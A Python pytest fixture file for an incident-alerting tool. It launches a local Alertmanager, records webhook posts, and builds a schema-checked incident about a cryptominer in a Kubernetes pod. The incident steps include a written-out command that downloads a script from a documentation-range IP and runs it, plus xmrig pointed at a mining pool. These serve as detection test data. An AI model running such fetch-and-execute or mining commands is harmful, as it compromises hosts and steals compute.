"""Alert-output fixtures: a real Prometheus Alertmanager started from its Debian binary, a real
HTTP server that records what Slack or a webhook receiver would get, and incident rows made by
hand from contract/incidents.schema.json (and checked against it)."""

from __future__ import annotations

import json
import shutil
import socket
import subprocess
import threading
import time
import uuid
from collections import deque
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, TypeVar

import httpx
import jsonschema
import pytest

from kubetrail.alerts import Notice, NoticeKind
from tests.conftest import ROOT

SCHEMA = json.loads((ROOT / "contract" / "incidents.schema.json").read_text())
T = TypeVar("T")


# -- incidents and notices ------------------------------------------------------------------------
STEPS = [
    ("2026-11-28T09:59:59.200000000Z", "falco", "runtime_alert",
     'Falco rule "Terminal shell in container" fired in payments/api-7d9c6b5f8-x2k4j (Notice)'),
    ("2026-11-28T10:00:00.000000000Z", "k8s_audit", "api_call",
     "alice@example.com create pods/exec payments/api-7d9c6b5f8-x2k4j (101): exec into a pod"),
    ("2026-11-28T10:00:00.300000000Z", "tetragon", "process_exec",
     "payments/api-7d9c6b5f8-x2k4j ran /bin/sh: not run by payments/api in its baseline"),
    ("2026-11-28T10:00:10.000000000Z", "tetragon", "process_exec",
     "payments/api-7d9c6b5f8-x2k4j ran /usr/bin/curl -fsSL http://203.0.113.50/x.sh -o /tmp/x.sh && sh /tmp/x.sh <&2"),
    ("2026-11-28T10:00:20.000000000Z", "tetragon", "process_exec",
     "payments/api-7d9c6b5f8-x2k4j ran /usr/bin/nohup /tmp/xmrig -o pool.example.net:3333"),
    ("2026-11-28T10:01:30.000000000Z", "tetragon", "process_exec",
     "payments/api-7d9c6b5f8-x2k4j ran /tmp/xmrig -o pool.example.net:3333: a program in world-writable /tmp"),
    ("2026-11-28T10:01:31.000000000Z", "tetragon", "network_flow",
     "payments/api-7d9c6b5f8-x2k4j connected to 198.51.100.23:3333, a mining-pool port, with /tmp/xmrig"),
]  # fmt: skip


def incident_row(incident_id: str | None = None, severity: str = "high", pods: list[str] | None = None) -> dict[str, Any]:
    """One row of `incidents -o json` (the miner story), checked against the contract's schema."""
    steps = [
        {"time": t, "source": source, "kind": kind, "summary": summary, "id": f"{i:032x}"}
        for i, (t, source, kind, summary) in enumerate(STEPS, start=1)
    ]
    row = {
        "id": incident_id or uuid.uuid4().hex,
        "title": "alice@example.com: payments/api-7d9c6b5f8-x2k4j ran /tmp/xmrig -o pool.example.net:3333",
        "severity": severity,
        "start": steps[0]["time"],
        "end": steps[-1]["time"],
        "clusters": ["prod-euw1", "prod-euw2"],
        "pods": ["payments/api-7d9c6b5f8-x2k4j", "payments/api-7d9c6b5f8-q8zr2"] if pods is None else pods,
        "actors": ["alice@example.com", "system:serviceaccount:payments/api"],
        "destinations": ["198.51.100.23", "203.0.113.50"],
        "techniques": ["T1059", "T1204", "T1496", "T1609"],
        "steps": steps,
    }
    envelope = {
        "window": {"since": "2026-11-28T09:00:00.000000000Z", "until": "2026-11-28T11:00:00.000000000Z"},
        "rows": [row], "gaps": [], "truncated": False, "next": None,
    }  # fmt: skip
    jsonschema.validate(envelope, SCHEMA)
    return row


def notice(kind: NoticeKind, row: dict[str, Any], severity: str | None = None, **extra: Any) -> Notice:
    """A notice of the row, started a minute ago (wall time: Alertmanager compares it with its clock)."""
    starts = extra.pop("starts_at", time.time_ns() - 60 * 1_000_000_000)
    return Notice(kind, row, severity or row["severity"], starts, **extra)


def eventually(probe: Callable[[], T], ok: Callable[[T], bool], seconds: float = 5.0) -> T:
    """Polls until `ok(probe())` or the deadline; the last value either way (the assert says why)."""
    deadline = time.monotonic() + seconds
    value = probe()
    while not ok(value) and time.monotonic() < deadline:
        time.sleep(0.05)
        value = probe()
    return value


# -- a real Alertmanager --------------------------------------------------------------------------
AM_CONFIG = """\
route:
  receiver: "null"
  group_wait: 100ms
  group_interval: 1s
  repeat_interval: 1h
receivers:
  - name: "null"
"""


@dataclass
class Alertmanager:
    url: str

    def alerts(self, incident_id: str, **flags: bool) -> list[dict[str, Any]]:
        """GET /api/v2/alerts of one incident. Alertmanager lists only alerts that have not ended
        (active, silenced, inhibited, unprocessed: the flags filter among those)."""
        params: dict[str, Any] = {"filter": f'incident_id="{incident_id}"', **{k: str(v).lower() for k, v in flags.items()}}
        response = httpx.get(f"{self.url}/api/v2/alerts", params=params, timeout=5, trust_env=False)
        response.raise_for_status()
        alerts: list[dict[str, Any]] = response.json()
        return alerts


def _alertmanager_binary() -> str | None:
    return shutil.which("prometheus-alertmanager") or shutil.which("alertmanager")


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port: int = s.getsockname()[1]
        return port


@pytest.fixture(scope="session")
def alertmanager(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Alertmanager]:
    """Debian's prometheus-alertmanager on 127.0.0.1 (no gossip), one null receiver."""
    binary = _alertmanager_binary()
    if binary is None:
        pytest.skip("prometheus-alertmanager is not installed (apt-get install -y prometheus-alertmanager)")
    home = tmp_path_factory.mktemp("alertmanager")
    (home / "alertmanager.yml").write_text(AM_CONFIG)
    port = free_port()
    log = (home / "alertmanager.log").open("wb")
    args = [
        binary, f"--config.file={home / 'alertmanager.yml'}", f"--storage.path={home / 'data'}",
        f"--web.listen-address=127.0.0.1:{port}", "--cluster.listen-address=",
    ]  # fmt: skip
    proc = subprocess.Popen(args, stdout=log, stderr=subprocess.STDOUT)
    try:
        am = Alertmanager(f"http://127.0.0.1:{port}")
        _wait_ready(am, proc, home / "alertmanager.log")
        yield am
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=5)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
        log.close()


def _wait_ready(am: Alertmanager, proc: subprocess.Popen[bytes], log: Path) -> None:
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            pytest.fail(f"alertmanager exited with {proc.returncode}:\n{log.read_text()}")
        try:
            if httpx.get(f"{am.url}/-/ready", timeout=1, trust_env=False).status_code == httpx.codes.OK:
                return
        except httpx.HTTPError:
            pass
        time.sleep(0.05)
    pytest.fail(f"alertmanager not ready in 15 s:\n{log.read_text()}")


# -- a recording HTTP server (Slack, a webhook receiver) ------------------------------------------
@dataclass(frozen=True)
class Received:
    path: str
    headers: dict[str, str]  # names in lower case
    body: bytes

    def json(self) -> Any:
        return json.loads(self.body)


@dataclass
class Recorder:
    """Records every POST and answers from `answers` (status, body, headers) in turn, then 200 "ok"."""

    url: str
    received: list[Received] = field(default_factory=list)
    answers: deque[tuple[int, bytes, dict[str, str]]] = field(default_factory=deque)

    def answer(self, status: int, body: bytes = b"", **headers: str) -> None:
        self.answers.append((status, body, {k.replace("_", "-"): v for k, v in headers.items()}))


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    rec = Recorder("")
    lock = threading.Lock()

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("content-length", "0")))
            with lock:
                rec.received.append(Received(self.path, {k.lower(): v for k, v in self.headers.items()}, body))
                status, answer, headers = rec.answers.popleft() if rec.answers else (200, b"ok", {})
            self.send_response(status)
            for name, value in headers.items():
                self.send_header(name, value)
            self.send_header("content-length", str(len(answer)))
            self.end_headers()
            self.wfile.write(answer)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    rec.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield rec
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
